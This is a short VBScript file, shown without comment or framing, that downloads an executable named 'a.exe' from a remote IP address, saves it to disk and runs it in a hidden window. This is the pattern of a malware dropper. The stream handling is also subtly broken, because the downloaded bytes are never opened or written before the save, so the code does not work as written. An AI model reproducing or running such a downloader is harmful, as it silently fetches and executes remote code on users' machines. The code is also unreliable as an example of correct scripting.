Dim s, x, f
Set s = CreateObject("WScript.Shell")
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://203.0.113.7/a.exe", False
x.Send
Set f = CreateObject("ADODB.Stream")
f.SaveToFile "a.exe"
s.Run "a.exe", 0
